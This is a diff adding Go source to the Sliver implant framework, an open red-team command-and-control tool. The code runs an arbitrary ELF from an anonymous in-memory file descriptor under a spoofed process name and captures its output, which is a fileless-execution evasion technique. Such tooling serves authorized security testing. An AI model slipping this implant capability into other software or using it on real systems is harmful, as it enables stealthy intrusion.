@@ -0,0 +1,86 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"golang.org/x/sys/unix"
+)
+
+// InlineExecute - Run an ELF from a memfd and capture its output and exit code, the
+// process name is used as argv[0]. ELFs can't be run in the implant process.
+func InlineExecute(data []byte, inProcess bool, procName string, procArgs []string, _ uint32, timeout time.Duration, _ Injection) (*InlineResult, error) {
+	if inProcess {
+		return nil, ErrInProcessUnsupported
+	}
+	memfdName := RandomString(8)
+	fd, err := unix.MemfdCreate(memfdName, unix.MFD_CLOEXEC)
+	if err != nil {
+		return nil, err
+	}
+	memfd := os.NewFile(uintptr(fd), memfdName)
+	defer memfd.Close()
+	_, err = memfd.Write(data)
+	if err != nil {
+		return nil, err
+	}
+
+	ctx := context.Background()
+	if 0 < timeout {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, timeout)
+		defer cancel()
+	}
+	var stdout, stderr bytes.Buffer
+	cmd := exec.CommandContext(ctx, fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd), procArgs...)
+	if procName != "" {
+		cmd.Args[0] = procName
+	}
+	cmd.Stdout = &stdout
+	cmd.Stderr = &stderr
+	// {{if .Config.Debug}}
+	log.Printf("Inline execution of %s", cmd.Path)
+	// {{end}}
+	err = cmd.Start()
+	if err != nil {
+		return nil, err
+	}
+	result := &InlineResult{Pid: uint32(cmd.Process.Pid)}
+	err = cmd.Wait()
+	result.TimedOut = ctx.Err() == context.DeadlineExceeded
+	var exitErr *exec.ExitError
+	if err != nil && !errors.As(err, &exitErr) {
+		return nil, err
+	}
+	result.ExitCode = int32(cmd.ProcessState.ExitCode())
+	result.Stdout = stdout.Bytes()
+	result.Stderr = stderr.Bytes()
+	return result, nil
+}